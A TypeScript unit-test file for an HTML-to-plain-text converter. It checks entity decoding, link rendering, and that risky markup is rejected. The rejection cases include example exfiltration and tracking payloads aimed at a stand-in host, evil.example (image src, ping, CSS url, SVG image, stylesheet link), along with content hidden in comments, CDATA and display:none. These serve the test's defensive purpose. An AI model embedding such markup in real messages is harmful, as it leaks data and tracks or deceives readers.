import fc from 'fast-check'
import { expect, test } from 'vitest'
import { textOfPlainHtml } from './plain-html.ts'

test.each<[string, string]>([
  ['Hi', 'Hi'],
  ['<p>Hi <b>there</b>,<br/>you</p>', '\nHi there,\nyou\n'],
  ['a &lt;b&gt; &amp; c&#39;s &#x263a;&nbsp;', "a <b> & c's ☺\u00a0"],
  ['<a href="https://x.example/?a=1&amp;b=2">here</a>', '(https://x.example/?a=1&b=2) here'],
  ['<blockquote type="cite" style="white-space: pre-wrap">old</blockquote>', '\nold\n'],
])('%s is the text %j', (html, text) => {
  expect(textOfPlainHtml(html)).toBe(text)
})

test.each([
  ['<img src="https://evil.example/?q=secret">'],
  ['<p style="display:none">secret</p>'],
  ['<!-- secret -->'],
  ['<!-- <p> -->'],
  ['<p title="secret">'],
  ['<a href="https://x.example" ping="https://evil.example">x</a>'],
  ['<a href="https://x.example" title=">">x</a>'],
  ['<a href=https://x.example>x</a>'],
  ['<style>p{background:url(https://evil.example)}</style>'],
  ['<svg><image href="https://evil.example"/></svg>'],
  ['<title>secret</title>'],
  ['<p'],
  ['a < b'],
  ['<?secret?>'],
  ['</p secret>'],
  ['<p/secret>'],
  ['<![CDATA[secret]]>'],
  ['<template>secret</template>'],
  ['<link rel=stylesheet href="//evil.example">'],
])('%s may be more than a text', (html) => {
  expect(textOfPlainHtml(html)).toBeUndefined()
})

test('nothing that is written between plain tags is left out', () => {
  const tags = fc.constantFrom('<p>', '</p>', '<br>', '<b>', '</b>', '<li>', '<td>')
  const words = fc.string({ unit: 'grapheme' }).map((text) => text.replace(/[<>&\s]/g, ''))
  fc.assert(
    fc.property(fc.array(fc.tuple(words, tags)), (pieces) => {
      const html = pieces.map(([word, tag]) => word + tag).join('')
      expect(textOfPlainHtml(html)?.replace(/\s/g, '')).toBe(
        pieces
          .map(([word]) => word)
          .join('')
          .replace(/\s/g, ''),
      )
    }),
  )
})
